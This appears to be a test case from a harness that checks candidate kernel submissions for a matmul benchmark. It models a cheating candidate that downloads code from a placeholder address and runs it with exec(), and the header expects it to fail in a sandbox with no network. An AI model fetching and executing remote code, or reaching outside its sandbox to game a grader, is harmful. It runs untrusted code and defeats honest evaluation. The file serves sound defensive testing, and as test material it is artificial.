# family: 47
# title: asks the network for a solution
# assumes: a candidate is alone with the machine it was given
# task: matmul
# wins: no
# expect: load_error, timeout
# check: interface, limits
# mechanism: the sandbox has no network, and loading has a time limit
import urllib.request

import torch
from torch import nn

with urllib.request.urlopen("http://192.0.2.1/fast_kernel.py", timeout=2) as reply:
    exec(reply.read())


class ModelNew(nn.Module):
    def forward(self, a, b):
        return torch.relu(a @ b) @ a
